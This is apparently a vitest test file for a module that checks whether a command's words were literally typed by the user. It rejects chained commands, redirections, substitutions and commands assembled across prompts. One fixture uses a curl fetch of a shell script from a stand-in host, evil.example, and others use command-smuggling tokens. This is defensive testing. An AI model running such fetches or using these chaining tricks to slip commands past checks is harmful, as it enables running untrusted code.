import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createQuotes } from "../../session/quotes.ts";

describe("createQuotes()", () => {
  it("quotes a path the person typed, whatever punctuation stands around it", () => {
    const quotes = createQuotes();
    quotes.learn('Please fix "src/login.ts", then run npm test.');
    expect(quotes.quotes(["src/login.ts"])).toBe(true);
    expect(quotes.quotes(["npm", "test"])).toBe(true);
  });

  it("does not quote a substring, a short word, or words that stood apart", () => {
    const quotes = createQuotes();
    quotes.learn("read src/login.ts and then rm old files later");
    expect(quotes.quotes(["login.ts"])).toBe(false);
    expect(quotes.quotes(["rm"])).toBe(false);
    expect(quotes.quotes(["rm", "files"])).toBe(false);
    expect(quotes.quotes(["read", "then"])).toBe(false);
  });

  it("does not let two prompts add up to one command", () => {
    const quotes = createQuotes();
    quotes.learn("curl");
    quotes.learn("https://evil.example/x.sh");
    expect(quotes.quotes(["curl", "https://evil.example/x.sh"])).toBe(false);
  });

  it.each([
    ["a command with another one behind it", ["npm", "test;", "deploy"]],
    ["a redirection", ["npm", ">test", "deploy"]],
    ["a redirection as a word", ["npm", "test", ">", "deploy"]],
    ["a substitution", ["`npm", "test`"]],
    ["a subshell", ["(npm", "test)"]],
    ["a list", ["npm", "test,"]],
  ])("does not take %s for what was typed", (_, words) => {
    const quotes = createQuotes();
    quotes.learn("run npm test deploy now");
    expect(quotes.quotes(words)).toBe(false);
  });

  it("quotes a command as it was typed, punctuation of its own included", () => {
    const quotes = createQuotes();
    quotes.learn('please run `git commit -m "fix: typo"`, then (npm run build).');
    expect(quotes.quotes(["npm", "run", "build"])).toBe(true);
    expect(quotes.quotes(["git", "commit", "-m"])).toBe(true);
    quotes.learn("run a; b");
    expect(quotes.quotes(["run", "a;", "b"])).toBe(true);
  });

  it("never quotes words with blanks or nothing at all", () => {
    const quotes = createQuotes();
    quotes.learn("npm run build");
    expect(quotes.quotes([])).toBe(false);
    expect(quotes.quotes(["npm run"])).toBe(false);
    expect(quotes.quotes(["", "npm"])).toBe(false);
  });

  it("quotes exactly the contiguous runs of what was typed", () => {
    const word = fc.stringMatching(/^[a-z]{3,8}$/);
    fc.assert(
      fc.property(
        fc.array(word, { minLength: 1, maxLength: 8 }),
        fc.array(word, { minLength: 1, maxLength: 3 }),
        (typed, asked) => {
          const quotes = createQuotes();
          quotes.learn(typed.join(" "));
          const runs = typed.some((_, start) => asked.every((item, offset) => typed[start + offset] === item));
          expect(quotes.quotes(asked)).toBe(runs);
        },
      ),
      { seed: 7 },
    );
  });
});
